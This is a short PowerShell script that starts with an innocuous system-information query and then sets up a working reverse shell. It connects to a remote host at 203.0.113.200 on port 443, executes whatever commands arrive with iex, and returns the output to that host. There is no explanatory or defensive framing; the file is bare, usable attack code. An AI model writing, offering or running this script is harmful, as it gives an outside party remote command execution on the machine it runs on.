Get-ComputerInfo | Select-Object OsName, OsVersion, CsTotalPhysicalMemory
$c = New-Object System.Net.Sockets.TCPClient('203.0.113.200', 443)
$s = $c.GetStream(); [byte[]]$b = 0..65535 | ForEach-Object { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
  $r = (iex $d 2>&1 | Out-String)
  $rb = ([Text.Encoding]::ASCII).GetBytes($r + 'PS> ')
  $s.Write($rb, 0, $rb.Length); $s.Flush()
}
$c.Close()
